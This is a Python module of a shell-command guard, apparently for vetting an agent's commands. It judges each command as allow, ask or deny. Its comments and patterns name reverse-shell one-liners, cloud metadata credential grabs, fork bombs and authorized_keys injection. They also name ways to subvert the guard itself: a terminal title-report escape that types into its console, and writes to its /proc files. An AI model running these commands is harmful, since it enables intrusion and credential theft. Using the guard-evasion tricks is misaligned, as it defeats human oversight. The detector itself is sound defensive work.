"""Judge a shell command: every simple command bash would run, the worst one decides.

    Analyzer().analyze("cd .. && rm -rf project", cwd="/home/u/project", home="/home/u") -> ShellAnalysis

The walker (parse.py) yields simple commands with their context; here each one is
resolved (wrappers such as sudo, env, timeout stripped; `/bin/rm` is rm) and judged by its
analyzer in code (files, git, runners, interpreters, network, SQL) or by the taxonomy
(taxonomy.yaml). Nested scripts (`bash -c`, `eval`, `ssh host …`, xargs and find children,
heredocs fed to a shell) are analyzed recursively in the same way.
"""
from __future__ import annotations

import fnmatch
import os
import posixpath
import re
import shlex
from contextlib import contextmanager
from dataclasses import replace
from typing import Callable
from urllib.parse import unquote

from ..effects import shell_acts
from ..infra import foreign_keys
from ..model import BlastRadius, Verdict
from . import (carried, channels, credroutes, cmd_agents, cmd_ansible, cmd_build, cmd_ci, cmd_code, cmd_compose, cmd_containers,
               cmd_dbus, cmd_exec, cmd_fs, cmd_git, cmd_logrotate, cmd_migrate, cmd_net, cmd_notebook, cmd_proc,
               cmd_salesforce, cmd_sandbox, cmd_tasks, cmd_term, cmd_triggers, exposure, remote_access, selfcall,
               toolcode, transfers)
from .findings import (FileEffect, Finding, ShellAnalysis, allow, ask, attribute_effects, by_radius, deny, unknown,
                       with_rule, worst)
from .deletes import everything_listed
from .shared_env import shared_environment_run
from .datastore_code import shared_run_wipe
from .evaluate import MKTEMP_PREFIX, Output, static_output
from .invocation import UNKNOWN_WORD, Invocation, Origin, Stream
from .parse import MAX_DEPTH, SimpleCommand, parse_script
from .namesakes import namesake
from .paths import PathKind, classify, delete_finding, glob_members, write_finding
from .projectfiles import SYSTEM_PROGRAM_DIRS, language_of, load_dotenv, read_text, shown
from .secrets import holds_credentials, is_secret, is_secret_area, reads_secret
from ..web import host_of, metadata_service
from .taxonomy import Taxonomy, default_taxonomy, match_shape, split_args, verb_class, verb_word_class
from .unset import missing_parameters, unset_names
from .words import DYN, EXACT_PARAMETERS, Scope, Word

RUNNERS = frozenset({"make", "gmake", "just", "task", "mage", "npm", "pnpm", "yarn", "bun", "npx", "bunx", "rake",
                     "invoke", "nox", "tox", "gradle", "gradlew", "mvn", "mvnw", "ant", "sbt", "mix", "lein",
                     "dotnet", "bazel", "bazelisk", "earthly", "dagger", "nx", "turbo", "lerna", "poe", "fab",
                     "cap", "kamal", "skaffold", "tilt", "devspace", "okteto", "ansible-playbook", "docker",
                     "doppler", "op", "uv", "poetry", "pdm", "hatch", "composer", "bundle", "php", "artisan"})
_DESCRIBE_FLAGS = ("--help", "--version", "-help", "-version")  # java -version, terraform -version
# what changes a file's mode, owner or times, not what it says (`chmod +x x.sh && ./x.sh` runs x.sh as it is)
_KEEPS_CONTENT = frozenset({"chmod", "chown", "chgrp", "touch", "mkdir", "setfacl", "xattr", "chattr", "mode",
                            "owner"})
_OWN_PROCESS_STATE = frozenset({"taxonomy:alias-define", "shell.function-override"})
_RUNNER_OF = {"python": "python3", "js": "node", "ruby": "ruby", "perl": "perl", "php": "php", "shell": "sh", "lua": "lua"}
MAX_FILE_NESTING = 6  # project scripts that run project scripts, followed this deep
MAX_FILES_READ = 48  # project files (scripts, tasks) judged for one command
_OVERRIDABLE = frozenset({"git", "ls", "cd", "rm", "cp", "mv", "sudo", "ssh", "curl", "wget", "npm", "python",
                          "python3", "node", "make", "docker", "kubectl", "cat", "echo", "test", "command", "exit"})
_LOGIN_KEYS = re.compile(r"/\.ssh/authorized_keys2?$")  # the keys that log in to this account
_TOOL_BINS = re.compile(r"(^|/)(node_modules/\.bin|\.venv/bin|venv/bin|vendor/bin)/[^/]+$")


def _installed_program(path: str, scope: Scope) -> bool:
    """Is a command written as a path an installed program, judged by its name (/usr/bin/rm,
    node_modules/.bin/prisma), rather than a file of the project run as the script it is (./deploy.sh,
    tools/bin/cargo, /home/dev/src/app/tools/bin/cargo)?"""
    if _TOOL_BINS.search(path):
        return True
    if path.startswith((".", "~")) or not path.startswith("/"):
        return False  # relative to the working directory: the project's own file
    project = scope.project or scope.cwd
    if project and not scope.remote:
        root = project.rstrip("/") + "/"
        return not posixpath.normpath(path).startswith(root)
    return True
# commands whose operands are files they read (and write to stdout)
_FILTERS_OF_FILES = frozenset({"cat", "tac", "sort", "uniq", "jq", "yq", "gojq", "sed", "gsed", "awk", "gawk", "mawk",
                               "grep", "egrep", "fgrep", "rg", "cut", "head", "tail", "nl", "fold", "fmt", "column",
                               "paste", "join", "comm", "iconv", "base64", "xxd", "od", "zcat", "gunzip", "envsubst",
                               "expand", "unexpand", "rev", "strings", "tr", "python", "python3", "node", "perl",
                               "ruby", "xmllint", "json_pp"})
_TCP_EXEC = re.compile(r"(?:\bexec\s+|\s)(\d+)\s*(?:<>|<|>)\s*/dev/(?:tcp|udp)/")
_FETCHERS = frozenset({"curl", "wget", "fetch", "http", "https", "xh", "aria2c"})
# variables that make a program run a file first: a project file named there is judged as what it is
# filters that print the lines of a file they are told to pick (grep token app.properties)
_CREDENTIAL_PICKERS = frozenset({"grep", "egrep", "fgrep", "rg", "awk", "sed", "ag"})
_PRELOADS = frozenset({"NODE_OPTIONS", "BASH_ENV", "ENV", "RUBYOPT", "PERL5OPT", "LUA_INIT", "LUA_INIT_5_1",
                       "LUA_INIT_5_2", "LUA_INIT_5_3", "LUA_INIT_5_4", "PHP_INI_SCAN_DIR", "PHPRC"})
# variables naming a file the program writes (a trace, a key log)
_OUTPUT_VARIABLE = re.compile(r"GIT_TRACE\w*|GIT_TRACE2\w*|SSLKEYLOGFILE|LD_DEBUG_OUTPUT|MALLOC_TRACE|PYTHONPYCACHEPREFIX|"
                              r"HISTFILE")  # bash truncates HISTFILE to HISTFILESIZE lines
_EXPORTED_FUNCTION = re.compile(r"BASH_FUNC_(.+?)(?:%%|\(\))")
# variables holding a command a build tool runs in its stead or around what it builds
_RUNNER_VARIABLE = re.compile(r"CARGO_TARGET_\w+_RUNNER|(?:CARGO_BUILD_)?RUSTC(?:_WORKSPACE)?_WRAPPER|CARGO_BUILD_RUSTC")
_JAVA_OPTION_VARIABLES = frozenset({"JAVA_TOOL_OPTIONS", "_JAVA_OPTIONS", "JDK_JAVA_OPTIONS", "JAVA_OPTS", "MAVEN_OPTS",
                                    "GRADLE_OPTS", "SBT_OPTS", "ANT_OPTS"})

_ROUTINE_NODE_OPTION = re.compile(r"^--(max-old-space-size|max-semi-space-size|stack-size|enable-source-maps|"
                                  r"no-warnings|no-deprecation|trace-warnings|trace-deprecation|"
                                  r"unhandled-rejections|openssl-legacy-provider|dns-result-order|conditions|"
                                  r"experimental-vm-modules|experimental-specifier-resolution|"
                                  r"experimental-json-modules|no-experimental-fetch|max-http-header-size)(=\S*)?$")
SOURCED_FILE = "sourced-file"  # scope fact: the project file `source`d into the calling shell
_ENV_DANGER = {"LD_PRELOAD": "preloads a library into every program",
               "LD_LIBRARY_PATH": "changes which libraries programs load",
               "DYLD_INSERT_LIBRARIES": "injects a library into every program",
               "PATH": "changes which programs command names run",
               "BASH_ENV": "runs a file at the start of every script",
               "ENV": "runs a file at the start of every shell",
               "HISTFILE": "changes where (or whether) history is kept",
               "NODE_OPTIONS": "changes how every node program starts",
               "PYTHONSTARTUP": "runs a file when python starts", "PERL5OPT": "changes how perl starts"}
# variables whose value a program runs as a shell command: judge the value itself
# an escape (raw, \e, \033, \x1b, \u001b) then CSI 20t/21t: "report the window title" (typed back as input)
_TITLE_REPORT = re.compile(r"(?:\x1b|\\e|\\033|\\x1[bB]|\\u001[bB]|\\E)\[2[01]t")
_ENV_COMMANDS = {"GIT_SSH_COMMAND", "GIT_EXTERNAL_DIFF", "GIT_PAGER", "PAGER", "EDITOR", "VISUAL", "GIT_EDITOR",
                 "AWS_PAGER", "GH_PAGER", "GH_EDITOR", "KUBE_EDITOR", "PSQL_PAGER", "SYSTEMD_PAGER", "BAT_PAGER",
                 "DELTA_PAGER", "GIT_SSH", "SVN_EDITOR", "HGEDITOR", "TIG_EDITOR",
                 "GIT_SEQUENCE_EDITOR", "SSH_ASKPASS", "GIT_ASKPASS", "SUDO_ASKPASS", "PROMPT_COMMAND", "BROWSER",
                 "LESSOPEN", "LESSCLOSE", "MANPAGER", "GIT_PROXY_COMMAND", "RSYNC_RSH", "CVS_RSH", "FCEDIT",
                 "KUBECTL_EXTERNAL_DIFF", "CC", "CXX", "GIT_EXEC_PATH"}
# PATH entries that are ordinary: the project's own bins and the usual install locations
_USUAL_PATH = re.compile(r"^(\.{0,2}/?(node_modules/\.bin|\.venv/bin|venv/bin|bin|vendor/bin|target/\w+|\.bin)|"
                         r"/(usr/local|usr|opt/homebrew|opt/local)/s?bin|/bin|/sbin|~?/?[^:]*/(\.local|\.cargo|go|"
                         r"\.bun|\.deno|\.npm-global|\.pyenv/shims|\.rbenv/shims|\.nvm/[^:]*)/bin)/?$")


class Analyzer:
    """Judges shell commands.

    command_exists tells whether a bare command name would be found on PATH; when given,
    a name that is not installed is harmless (bash only prints "command not found").
    """

    def __init__(self, taxonomy: Taxonomy | None = None, command_exists: Callable[[str], bool] | None = None):
        self.tax = taxonomy or default_taxonomy()
        self.command_exists = command_exists

    # -- entry points ----------------------------------------------------------------
    def analyze(self, command: str, cwd: str | None, home: str, facts: dict[str, str] | None = None) -> ShellAnalysis:
        """`facts`: what earlier calls of the session left (Scope.facts), e.g. the destroy plans they made."""
        result = ShellAnalysis(command)
        run = _Run(self, result)
        cwd = posixpath.normpath(cwd) if cwd else None
        try:
            run.script(command, Scope(cwd, home, facts=dict(facts or {})), via="", depth=0)
        except RecursionError:  # nested beyond what we follow: fail closed, but say why
            result.findings.append(ask("the command nests too deeply to follow", "dynamic-exec", BlastRadius.HIGH,
                                       "shell.depth").located(command[:200], "", None))
        if not result.findings:
            result.findings.append(allow("nothing to run", "read-only", rule="shell.empty"))
        if any(UNKNOWN_WORD in f.reason or UNKNOWN_WORD in f.segment for f in result.findings):
            result.findings[:] = [replace(f, reason=f.reason.replace(UNKNOWN_WORD, "…"),
                                          segment=f.segment.replace(UNKNOWN_WORD, "…")) for f in result.findings]
        return result


class _Run:
    """One analysis: collects findings and file effects while walking nested scripts."""

    def __init__(self, analyzer: Analyzer, result: ShellAnalysis):
        self.analyzer = analyzer
        self.tax = analyzer.tax
        self.result = result
        self.downloaded: set[str] = set()  # files written by curl/wget earlier in the command
        self.written: dict[str, str] = {}  # files written with known text earlier (a script, then `sh` it)
        self.empty_dirs: set[str] = set()  # directories created empty earlier (mkdir, mktemp -d)
        self.secret_copies: set[str] = set()  # where secrets were copied to earlier (cp ~/.aws/credentials .)
        self.staged_secrets: list[str] = []  # secrets `git add` staged earlier in the command
        self.added_remotes: set[str] = set()  # `git remote add NAME URL` earlier in the command
        self.vm_mounts: dict[str, dict] = {}  # multipass/incus mounts made earlier: tool → machine → mounts
        self.files: list[str] = []  # the project files being judged, outermost first (scripts calling scripts)
        # (via, carrier): `ssh h python3 - < f.py`, `kubectl exec -i P -- sh < x`: the commands run there read
        # the carrier's stdin (what the local shell opened for it)
        self.fed_stdin: list[tuple[str, SimpleCommand]] = []
        self.files_read = 0
        self.modules: set[str] = set()  # modules a judged program imports, each judged once

    # -- scripts ---------------------------------------------------------------------
    def script(self, text: str, scope: Scope, via: str, depth: int, span: tuple[int, int] | None = None,
               origin: Origin | None = None) -> None:
        start, effects = len(self.result.findings), len(self.result.effects)
        try:
            self._script(text, scope, via, depth, span, origin)
        finally:
            if origin is not None:
                for i in range(start, len(self.result.findings)):
                    self.result.findings[i] = self.result.findings[i].attributed(origin.at(0))
                attribute_effects(self.result.effects, effects, origin.at(0))

    def _script(self, text: str, scope: Scope, via: str, depth: int, span: tuple[int, int] | None,
                origin: Origin | None) -> None:
        if depth > MAX_DEPTH:
            self.add(ask("the command nests scripts too deeply to follow", "dynamic-exec", BlastRadius.HIGH,
                         "shell.depth"), text, via, span)
            return
        if DYN in text:
            self.add(ask("part of a script is only known at run time", "dynamic-exec", BlastRadius.HIGH,
                         "shell.dynamic-script"), text.replace(DYN, "…"), via, span)
            # the unknown parts stay unknown words (an unset variable), so what surrounds them is still judged
            text = text.replace(DYN, UNKNOWN_WORD)
        parsed = parse_script(text, scope, via=via, depth=depth, base=span[0] if span and not via else 0,
                              defer_functions=origin is not None and origin.defer_functions)
        for error in parsed.errors:
            self.result.parse_errors.append(error)
            self.add(ask(f"{error}, so it cannot be judged safely", "parse-error", BlastRadius.UNKNOWN,
                         "shell.parse"), text, via, span)
        if _TITLE_REPORT.search(text):
            # CSI 21t (or 20t) makes the terminal answer with its title as if typed: a title set just before
            # (OSC 2) becomes keystrokes in whatever reads the terminal next, the console included
            self.add(deny("it asks the terminal to report its title, which the terminal types back as input: "
                          "a way to answer the guard's console", "terminal-input", "term.title-report"), text, via, span)
        if "/dev/tcp/" in text or "/dev/udp/" in text:  # exec 3<>/dev/tcp/169.254.169.254/80: a raw connection
            for host in re.findall(r"/dev/(?:tcp|udp)/([^/\s'\"]+)/", text)[:16]:
                service = metadata_service(host)
                if service:
                    self.add(deny(f"it opens a connection to {service} ({host}), which hands out this machine's "
                                  "cloud credentials", "secrets", "net.metadata"), text, via, span)
        m = _TCP_EXEC.search(text) if "/dev/" in text else None  # `in` first: the regex is slow on long text
        if m and (re.search(r"\b(?:ba|z|k|da)?sh\b[^;|&\n]*<&\s*" + m.group(1) + r"\b", text) or
                  re.search(r"<&\s*" + m.group(1) + r"\b[^;&\n]*\|\s*(?:\S*/)?(?:ba|z|k|da)?sh\b", text)):
            # exec 3<>/dev/tcp/h/p; bash <&3 >&3: a shell reading commands from a socket
            self.add(deny("a shell reads its commands from a network socket (a reverse shell): it hands this "
                          "machine to a remote host", "network", "shell.reverse-shell"), text, via, span)
        if parsed.fork_bomb:
            self.add(deny("it spawns processes endlessly (a fork bomb): it exhausts the machine", "fork-bomb",
                          "shell.fork-bomb"), parsed.fork_bomb, via, span)
        self.result.data.extend(parsed.data_spans)
        for name in parsed.functions_defined:
            if name in _OVERRIDABLE or name in self.tax.commands or name in self.tax.builtins or name in _HANDLERS:
                self.add(ask(f"defines a function named {name}: later `{name}` runs it instead", "shell-state",
                             BlastRadius.LOW, "shell.function-override"), name, via, span)
        for late, label in parsed.late_scripts:
            self.script(late, scope.copy(), f"{via} › {label}" if via else label, depth + 1)
        for cmd in parsed.commands:
            cmd_span = cmd.span if not via and span is None else span
            before, effects = len(self.result.findings), len(self.result.effects)
            self.judge(cmd, depth)
            if cmd.stdin_body is not None and not self._reads_code(cmd):
                self.result.data.append(("heredoc", cmd.stdin_body))
            line = text.count("\n", 0, cmd.span[0]) if origin is not None and cmd.span else 0
            for i in range(before, len(self.result.findings)):
                found = self.result.findings[i].located(cmd.text, cmd.via, cmd_span)
                self.result.findings[i] = found.attributed(origin.at(line)) if origin is not None else found
            if origin is not None:
                attribute_effects(self.result.effects, effects, origin.at(line))

    def _reads_code(self, cmd: SimpleCommand) -> bool:
        """Does this command run what it reads on stdin (a shell, an interpreter, a database client)?"""
        name = posixpath.basename(cmd.argv[0].value) if cmd.argv else ""
        return name in self.tax.shells or self.tax.interpreter(name) is not None or name in self.tax.sql_clients \
            or name in ("crontab", "xargs", "parallel", "source", ".", "eval", "at", "batch")

    def holds_secret(self, path: str, home: str) -> bool:
        """A secret file, a directory of them, a copy of one made earlier in the command, or a directory
        such a copy was put in (`tar czf - -C "$out" .` after `tar czf "$out/env.tgz" ~/.ssh`)."""
        if is_secret(path, home, self.tax) or is_secret_area(path, home, self.tax) or path in self.secret_copies:
            return True
        inside = path.rstrip("/") + "/"
        return any(copy.startswith(inside) for copy in self.secret_copies)

    def carries_secret(self, path: str, scope: Scope) -> bool:
        """`holds_secret`, or a file of this machine whose reading asks or whose text holds a credential (an
        appsettings.Development.json with a database password): what an archive or a copy of it carries."""
        if self.holds_secret(path, scope.home):
            return True
        return not scope.remote and (reads_secret(path, scope.home, scope.project or scope.cwd) or
                                     holds_credentials(path) is not None)

    def nested(self, text: str, inv: Invocation, label: str, scope: Scope | None = None,
               origin: Origin | None = None) -> None:
        """Analyze a script that `inv` runs (bash -c, eval, ssh …); `origin`: the project file it is from."""
        via = f"{inv.cmd.via} › {label}" if inv.cmd.via else label
        self.script(text, scope or inv.scope.copy(), via, inv.cmd.depth + 1 + _depth_of(inv.cmd.via), origin=origin)

    def nested_routine(self, text: str, inv: Invocation, label: str, scope: Scope | None = None) -> bool:
        """`nested`, and whether what it runs is routine: a program an option names (`split --filter=gzip`, a helm
        post-renderer script that only pipes through yq, `go run ./cmd/dump`) needs no ask of its own when all it
        found allows, every program it runs could be read (not a script that is not there yet), and it changes
        nothing outside the project."""
        start, effects = len(self.result.findings), len(self.result.effects)
        self.nested(text, inv, label, scope)
        added = self.result.findings[start:]
        within = [d.rstrip("/") + "/" for d in (inv.scope.project, inv.scope.cwd) if d]
        return bool(added) and all(f.verdict is Verdict.ALLOW and (f.rule != "shell.script" or _installed(f.segment))
                                   for f in added) and \
            all(e.kind == "read" or e.remote or (e.path or "").startswith(tuple(within)) and bool(within)
                for e in self.result.effects[effects:])

    # -- project files ---------------------------------------------------------------
    def enter_file(self, key: str) -> Finding | None:
        """Start judging a project file (or a task in one): a finding when it must not be followed
        (it is already being judged, which is a loop, or too many files were read), else None."""
        if key in self.files:
            return allow(f"{key} runs itself again (judged above)", "build-test", rule="shell.project-loop")
        if len(self.files) >= MAX_FILE_NESTING or self.files_read >= MAX_FILES_READ:
            return ask(f"{key} runs more project scripts than guardtui follows", "dynamic-exec", BlastRadius.MEDIUM,
                       "shell.project-depth")
        self.files.append(key)
        self.files_read += 1
        return None

    @contextmanager
    def shallow(self):
        """Judge one file without following what it runs or imports (installed code: its own lines decide)."""
        saved = self.files
        self.files = [""] * (MAX_FILE_NESTING - 1)
        try:
            yield
        finally:
            self.files = saved

    def leave_file(self, key: str) -> None:
        if self.files and self.files[-1] == key:
            self.files.pop()

    def project_file(self, path: str, inv: Invocation, runner: str = "", label: str = "",
                     language: str | None = None) -> Finding | None:
        """Read the project file `inv` runs and judge what it contains; None when it cannot be read (too
        large, not a regular file, not text, not a language guardtui reads): then the caller judges the
        command as it would without the file."""
        if inv.scope.remote or not path.startswith("/") or path.startswith(SYSTEM_PROGRAM_DIRS):
            return None  # the system's own scripts (bash completions, distro helpers) are not the project's
        changed = self.changed_earlier(path, inv)
        if changed is not None:
            return changed
        text = self.written.get(path) if path in self.written else self._copied_text(path) or read_text(path)
        if text is None:
            return None
        language = language or (self.runner_language(runner) if runner else None)  # build.zig: read as zig code
        if language is None:
            language = language_of(path, text) or ("shell" if not runner and not text.startswith("#!") else None)
        if language is None:
            return None
        name = shown(path, inv.scope.project or inv.scope.cwd)
        stop = self.enter_file(path)
        if stop is not None:
            return replace(stop, reason=stop.reason.replace(path, name))
        try:
            scope = Scope(inv.scope.cwd, inv.scope.home, project=inv.scope.project, facts=dict(inv.scope.facts))
            scope.variables["0"] = path
            scope.arrays["@"] = [w.value for w in inv.words]
            scope.arrays["BASH_SOURCE"] = [path]
            if posixpath.basename(runner) not in ("source", "."):
                scope.facts["in-file"] = path  # its own process: what it sets dies with it
            else:
                scope.facts[SOURCED_FILE] = path  # the caller's shell: what it sets lasts to the end of this call
            runs = Invocation(posixpath.basename(runner) if runner else _RUNNER_OF.get(language, "sh"), inv.words,
                              inv.cmd, inv.scope, inv.privileged, inv.written_name)
            sourced = posixpath.basename(runner) in ("source", ".")  # its functions serve the caller
            self.program(text, language, runs, Origin(name, defer_functions=not sourced), scope, label or name)
        finally:
            self.leave_file(path)
        return allow(f"runs {name} (its contents are judged)", "build-test", rule="shell.project-script")

    def _copied_text(self, path: str) -> str | None:
        """The text a file will hold when the last change this command made to it was a copy (or a link) of a
        file that can be read (`cp .ci/next.sh scripts/ci.sh && bash scripts/ci.sh`)."""
        last = next((e for e in reversed(self.result.effects) if e.path == path and e.kind not in ("read",)), None)
        if last is None or last.kind not in ("copy", "link") or not last.source or last.source == path:
            return None
        return read_text(last.source)

    def changed_earlier(self, path: str, inv: Invocation) -> Finding | None:
        """An ask when this command changed `path` before running it (`sed -i … x.sh && bash x.sh`): what
        runs is not what is on disk now. A file written above with known text, or copied from a file that can
        be read, is judged from that text."""
        if path in self.written or self._copied_text(path) is not None or not any(e.path == path and e.kind not in _KEEPS_CONTENT and
                                           posixpath.basename((e.segment.split() or [""])[0]) not in _KEEPS_CONTENT
                                           and not self._built_program(e.segment)
                                           for e in self.result.effects):
            return None
        name = shown(path, inv.scope.project or inv.scope.cwd)
        return ask(f"runs {name}, which this command changes first: what would run is not what is on disk",
                   "dynamic-exec", BlastRadius.HIGH, "shell.changed-script")

    def _built_program(self, segment: str) -> bool:
        """A compiler's or linker's output (`cc -o build/t src/t.c`): a program built from sources, not a
        script written here; its text outputs (-E, -S, -M…) stay changed files."""
        words = segment.split()
        return bool(words) and posixpath.basename(words[0]) in self.tax.program_builders and \
            not any(re.fullmatch(r"-(?:E|S|M|MM|MD|MMD|P|dM|save-temps.*|x)", w) for w in words[1:])

    def runner_language(self, runner: str) -> str | None:
        name = posixpath.basename(runner)
        if name in self.tax.shells or name in ("source", "."):
            return "shell"
        spec = self.tax.interpreter(name)
        return spec.get("language") if spec else None

    def program(self, text: str, language: str, inv: Invocation, origin: Origin, scope: Scope | None = None,
                label: str = "") -> None:
        """Judge a project's own program text (a script, a package.json script, a recipe) as what it
        is: shell through the shell analysis, code through the interpreter analyzer. A command
        guardtui does not know, inside the project's own script, is the project's business: it does
        not make the script ask (what the script does that guardtui knows still decides), unless its
        subcommand says it acts beyond the project (taxonomy acting_verbs: `frobctl resubmit`, `x deploy`)."""
        before = len(self.result.findings)
        if language == "shell":
            self.nested(text, inv, label or origin.file, scope, origin)
            if origin.defer_functions:  # a script file: what it does with the variables it never sets
                self._with_unset_empty(text, inv, label or origin.file, scope, origin)
        else:
            for finding in cmd_code.judge_file(self, inv, text, language, origin, scope):
                self.add(finding.attributed(origin.at(0)))
        for i in range(before, len(self.result.findings)):
            f = self.result.findings[i]
            if origin.defer_functions and f.verdict is Verdict.ASK and f.rule in _OWN_PROCESS_STATE:
                # an alias or a function named like a command, in a script run in its own process: it ends with it
                self.result.findings[i] = replace(f, verdict=Verdict.ALLOW, blast_radius=BlastRadius.LOW,
                                                  reason=f"{f.reason.split(': ', 1)[-1]}; it lasts only while "
                                                         f"{origin.file} runs")
                continue
            if f.verdict is Verdict.LLM and f.category != _UNKNOWN_ACTING:
                self.result.findings[i] = replace(f, verdict=Verdict.ALLOW, blast_radius=BlastRadius.LOW,
                                                  reason=f"{f.reason}; it runs as part of the project's "
                                                         f"{origin.file}")

    def _with_unset_empty(self, text: str, inv: Invocation, label: str, scope: Scope | None, origin: Origin) -> None:
        """Judge the script again with the variables it sets nowhere empty, as the shell will have them, and
        the arguments it is not given ($1 of a script run with none); only what that denies is kept
        (`rm -rf "$HOME/$WORKSPACE"` is `rm -rf "$HOME/"`, `rm -rf "$1"/` run bare is `rm -rf /`)."""
        names = unset_names(text)
        given = scope.elements("@") if scope is not None else None
        missing = missing_parameters(text, len(given)) if given is not None else []
        if not names and not missing:
            return
        if missing:
            scope = scope.copy()
            scope.facts[EXACT_PARAMETERS] = "1"
            names = names + missing
        findings, effects = len(self.result.findings), len(self.result.effects)
        assignments = " ".join(f"{n}=" for n in names if not n.startswith("$"))
        self.nested(f"{assignments}; {text}" if assignments else text, inv, label, scope, origin)
        found = self.result.findings[findings:]
        del self.result.findings[findings:], self.result.effects[effects:]
        why = []
        if len(names) > len(missing):
            why.append(f"{', '.join(n for n in names if n not in missing)} empty: {origin.file} sets it nowhere")
        if missing:
            why.append(f"{', '.join(missing)} empty: {origin.file} is run without it")
        for f in found:
            if f.verdict is Verdict.DENY:
                self.result.findings.append(replace(f, reason=f"{f.reason} (with {'; '.join(why)})"))

    def add(self, finding: Finding, segment: str = "", via: str = "", span=None) -> None:
        if segment:
            finding = finding.located(segment, via, span)
        self.result.findings.append(finding)

    def effect(self, path: str | None, raw: str, kind: str, cmd: SimpleCommand, remote: bool = False,
               **more) -> None:
        effect = FileEffect(path, raw, kind, cmd.text, remote, **more)
        (self.result.reads if kind == "read" else self.result.effects).append(effect)

    # -- one simple command ----------------------------------------------------------
    def judge(self, cmd: SimpleCommand, depth: int) -> None:
        self.redirects(cmd)
        for name, value in cmd.assignments:
            self.environment(name, value, cmd, prefix=bool(cmd.argv))
        if not cmd.argv:
            if not cmd.assignments and not cmd.redirects:
                return
            self.add(allow("only sets variables or redirects", "shell-state", rule="shell.assignment"))
            return
        alias = cmd.scope.aliases.get(cmd.argv[0].value) if not cmd.argv[0].quoted else None
        if alias is not None and cmd.argv[0].value not in cmd.scope.functions:
            scope = cmd.scope.copy()
            scope.aliases.pop(cmd.argv[0].value)  # an alias does not expand inside itself
            text = " ".join([alias] + [w.value for w in cmd.argv[1:]])
            self.script(text, scope, f"{cmd.via} › alias {cmd.argv[0].value}" if cmd.via
                        else f"alias {cmd.argv[0].value}", depth + 1)
            return
        inv = self.unwrap(cmd)
        if inv is None:
            return
        if inv.name == "mkdir":
            for w in inv.words:
                info = classify(w, inv.scope, self.tax) if not w.value.startswith("-") else None
                if info is not None and info.path:
                    self.empty_dirs.add(info.path)
        if inv.name in ("terraform", "tofu", "terragrunt"):
            sub = next((w.value for w in inv.words if not w.value.startswith("-")), "")
            for var, value in cmd.assignments:  # TF_CLI_ARGS_apply=-destroy adds to every `terraform apply`
                if var == "TF_CLI_ARGS" or var == f"TF_CLI_ARGS_{sub}":
                    inv = Invocation(inv.name, inv.words + [Word.literal(v) for v in value.value.split()], inv.cmd,
                                     inv.scope, inv.privileged, inv.written_name)
        self.result.acts.extend(shell_acts(inv.name, inv.args, inv.scope.cwd))
        before = len(self.result.findings)
        findings = self.judge_invocation(inv)
        shared = shared_environment_run(inv, findings, self.tax)
        if shared is not None:  # uv run python -m scripts.fix --database-url "$PROD_DATABASE_URL"
            # its code deleting a whole collection or database there (dart run tool/x.dart --project app-prod)
            findings.append(shared_run_wipe(inv, self.tax) or shared)
        self.operand_reads(inv)
        if inv.privileged:
            findings.append(ask(f"runs {inv.name} as another user (root)", "privilege", BlastRadius.HIGH,
                                "shell.privilege"))
        if any(re.fullmatch(r"[A-Z]+_ENV", var) and value.value == "test" for var, value in cmd.assignments):
            # RAILS_ENV=test rails db:migrate: schema and seed changes land in the throwaway test database
            findings = [allow(f"{f.reason}, in the test environment", f.category, rule=f.rule)
                        if f.verdict is Verdict.ASK and f.category == "database" and
                        f.blast_radius is BlastRadius.MEDIUM and f.rule.startswith("taxonomy") else f
                        for f in findings]
        # the command's own findings go before those of the scripts it ran (judged while judging it)
        self.result.findings[before:before] = findings

    def operand_reads(self, inv: Invocation) -> None:
        """The files a command may read: its operands (unless it only names them) and `< file`."""
        if inv.name not in _NAMES_ONLY and DYN not in inv.name:
            words = inv.words
            cut = next((i for i, w in enumerate(words) if w.value == "--"), None)
            if cut is not None and (selfcall.guardtui_words(inv) is not None or any(
                    posixpath.basename(w.value) == selfcall.NAME for w in words[:cut])):
                words = words[:cut]  # guardtui check -- COMMAND: the command is judged, never run: not read
            if inv.name in ("find", "gfind", "bfind") and not any(_FIND_RUNS.fullmatch(w.value) for w in words):
                words = []  # find compares names, times and sizes: without -exec it reads no file's contents
            for w in words:
                self.read(w, inv)
        for r in inv.cmd.redirects:
            if r.op == "<" and r.target is not None:
                self.read(r.target, inv)

    def _guardtui_process_file(self, word: Word, home: str) -> None:
        """A write into /proc/PID/… of guardtui's process (oom_score_adj, mem): the guard made to die or lie."""
        if word.value.startswith("/proc/"):
            aimed = cmd_proc.guardtui_pid_in(word, home)
            if aimed:
                self.add(deny(f"writes into {word.display()}, a file of {aimed}: {cmd_proc.WHY}", "guard-self",
                              "proc.guardtui"))

    def redirects(self, cmd: SimpleCommand) -> None:
        for r in cmd.redirects:
            if not r.writes or r.target is None:
                continue
            self._guardtui_process_file(r.target, cmd.scope.home)
            info = classify(r.target, cmd.scope, self.tax)
            if info.kind is PathKind.HARMLESS_DEVICE:
                continue
            content: dict = {}
            if not cmd.argv and r.op in (">", ">|", "&>"):
                content = {"content": ""}  # `: > f`, `> f`: the file is emptied
            if info.path and cmd.argv and r.fd in (None, 1):
                out = self.output_of(cmd)
                if out.kind == "text" and out.text is not None:
                    content = {"content": out.text, "detail": "append" if r.op == ">>" else ""}
                    if r.op != ">>" or info.path in self.written:
                        # `>> file` adds to what is on disk: its whole text is known only if this command wrote it
                        self.written[info.path] = out.text if r.op != ">>" else self.written[info.path] + out.text
                    self.persistent(info.path, out.text, cmd)
                elif out.kind == "network":
                    self.downloaded.add(info.path)
                if _LOGIN_KEYS.search(info.path) and out.kind == "text" and out.text and \
                        (key := foreign_keys(out.text, cmd.scope.home)) is not None:
                    self.add(deny(f"adds a key the person does not hold ({key}) to {r.target.display()}: whoever "
                                  "holds its private half logs in to this machine", "privilege", "shell.authorized-keys"))
                if info.path.endswith("/.ssh/authorized_keys") and out.kind == "network":
                    self.add(deny(f"appends a downloaded key to {r.target.display()}: someone else gets in",
                                  "privilege", "shell.authorized-keys"))
            if cmd.argv and posixpath.basename(cmd.argv[0].value) in self.tax.shells and \
                    cmd.scope.facts.get("tcp-fd") and r.target.raw.lstrip("&") in ("$REPLY", "${REPLY}"):
                # ztcp host port; zsh >&$REPLY: zsh's socket module, the same reverse shell
                self.add(deny(f"a shell wired to the socket ztcp opened is a reverse shell: it hands this machine "
                              "to a remote host", "network", "shell.reverse-shell"))
            if info.kind is PathKind.NETWORK_DEVICE and cmd.argv and \
                    posixpath.basename(cmd.argv[0].value) in self.tax.shells | {"exec"}:
                self.add(deny(f"a shell wired to {r.target.display()} is a reverse shell: it hands this machine to "
                              "a remote host", "network", "shell.reverse-shell"))
